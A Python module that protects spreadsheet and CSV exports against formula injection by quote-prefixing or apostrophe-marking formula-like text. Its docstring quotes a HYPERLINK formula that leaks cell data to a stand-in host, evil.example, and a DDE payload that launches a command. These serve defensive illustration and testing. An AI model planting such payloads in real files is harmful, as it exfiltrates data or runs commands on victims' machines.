"""Spreadsheet safety: nothing filiere writes to a workbook or a CSV file can run as a formula.

A name such as ``=HYPERLINK("http://evil.example/?leak="&A2,"Click me")`` comes from a
dataset and must stay text when an adviser opens the report or an export in Excel or
LibreOffice. Text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is
what spreadsheets read as a formula (OWASP, "CSV Injection").

- Workbooks (:func:`protect_workbook`, run by :func:`save_workbook` on every cell just
  before saving): such text is written as a string cell with Excel's "quote prefix"
  flag, so the value is kept exactly and stays text even when the cell is edited.
- CSV files (:func:`csv_text`): a CSV has no cell types, so such text is written with
  a leading apostrophe, OWASP's advice and the spreadsheets' own "this is text" marker.
  Plain numbers (``-3.5``) are left alone. Ingestion reads the apostrophe back off
  (:func:`read_text`), so ``ingest -> export -> ingest`` keeps every value exactly.

>>> csv_text('=cmd|" /C calc"!A0'), csv_text("-3.5"), csv_text("Acier")
('\\'=cmd|" /C calc"!A0', '-3.5', 'Acier')
>>> read_text(csv_text("@SUM(A1)")), read_text(csv_text("'=x")), read_text("'abc")
('@SUM(A1)', "'=x", "'abc")
"""

from __future__ import annotations

import re
from pathlib import Path

from openpyxl import Workbook

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: The text marker written before such text in a CSV file.
TEXT_MARKER = "'"
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def read_text(text: str) -> str:
    """A CSV value as meant: one leading text marker before a formula start is dropped."""
    if text[:1] == TEXT_MARKER and text[1:2] in (*FORMULA_START, TEXT_MARKER):
        return text[1:]
    return text


def needs_marker(text: str) -> bool:
    """Whether ``text`` must be written with the text marker in a CSV file."""
    if text[:1] in FORMULA_START and text[:1] and not _NUMBER.fullmatch(text):
        return True
    return read_text(text) != text  # it already starts with a marker: keep it


def csv_text(text: str) -> str:
    """``text`` as written in a CSV file: marked as text when it could run as a formula."""
    return TEXT_MARKER + text if needs_marker(text) else text


def protect_workbook(wb: Workbook) -> int:
    """Turn every formula or formula-like text cell of ``wb`` into plain text; return how many.

    filiere never writes formulas, so any formula cell holds data (openpyxl makes a
    formula of any string starting with ``=``).
    """
    changed = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f" or (
                    isinstance(value, str) and value[:1] in FORMULA_START and value[:1]
                ):
                    cell.value = str(value)
                    cell.data_type = "s"  # after the value: setting it guesses the type
                    cell.quotePrefix = True
                    changed += 1
    return changed


def save_workbook(wb: Workbook, path: str | Path) -> Path:
    """Save ``wb`` at ``path`` after :func:`protect_workbook`: the one way filiere saves one."""
    out = Path(path)
    out.parent.mkdir(parents=True, exist_ok=True)
    protect_workbook(wb)
    wb.save(out)
    return out
